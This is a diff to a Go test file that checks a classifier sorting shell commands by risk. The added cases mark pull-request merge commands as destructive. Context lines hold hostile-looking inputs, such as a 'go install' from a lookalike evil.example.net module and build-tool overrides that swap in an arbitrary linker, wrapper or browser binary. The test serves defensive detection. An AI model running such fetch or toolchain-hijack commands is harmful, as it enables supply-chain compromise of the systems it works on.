@@ -56,6 +56,7 @@ func TestNeighbours(t *testing.T) {
 			"CYPRESS_BROWSER=chrome npm test": "", "BROWSER=./x npm test": environment, "X_SERVER_FLAGS=--in-memory make": "", "X_SERVER_FLAGS='--x -fplugin=y' make": environment, "RUSTFLAGS='-C linker=x' cargo build": environment,
 			"cargo install --config 'build.rustflags=[\"-C\", \"target-cpu=native\"]' --path x": "", "cargo build --config 'build.rustflags=[\"-Clinker=x\"]'": setting, "cargo build --config build.rustc-wrapper=x": setting, "cargo build --config x.toml": setting, "cargo build --config profile.release.debug=true": "",
 			"go install go.etcd.io/bbolt/cmd/bbolt@latest": "", "go install go.etcd.io.evil.example.net/x@latest": fetched, "go run gotest.tools/gotestsum@latest": "",
+			"gh pr merge 3": wipe, "gh pr merge --auto --squash": wipe, "gh -R x/y pr merge 3": wipe, "gh pr -R x/y merge 3": wipe, "glab mr merge 3": wipe, "glab mr accept 3": wipe, "gh pr view merge": "", "gh pr checkout merge": "", "gh pr merge --help": "",
 			"cargo owner --list x": "", "cargo owner --add u x": wipe, "cargo publish": wipe,
 		},
 		"what is deleted": {
